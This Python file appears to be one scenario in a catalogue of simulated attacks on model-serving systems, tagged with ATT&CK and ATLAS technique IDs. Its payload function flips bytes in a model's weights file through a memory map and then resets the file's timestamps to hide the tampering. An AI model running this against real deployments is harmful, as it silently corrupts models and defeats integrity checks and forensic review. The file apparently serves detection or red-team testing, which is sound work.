"""
id: S28
name: inplace-weight-tamper
class: quiet
phase: serve
trigger: request
evidence: [model]
techniques: [T1565.001, T1554, AML.T0018.000, AML.T0031]
servers: [fastapi, bentoml, triton]
seconds: 5
what: >
  Flips a few bytes of the weights in place through a shared mapping, so that nothing is ever written by a call, and puts the
  file's date back.
"""

import mmap
import os

PLACES = 3
BYTES = 4


def payload(world):
    file = os.open(world.weights, os.O_RDWR)
    before = os.fstat(file)
    with mmap.mmap(file, before.st_size) as weights:
        for _ in range(PLACES):
            at = world.random.randrange(before.st_size - BYTES)
            weights[at : at + BYTES] = bytes(byte ^ 0xFF for byte in weights[at : at + BYTES])
        weights.flush()
    os.close(file)
    os.utime(world.weights, ns=(before.st_atime_ns, before.st_mtime_ns))
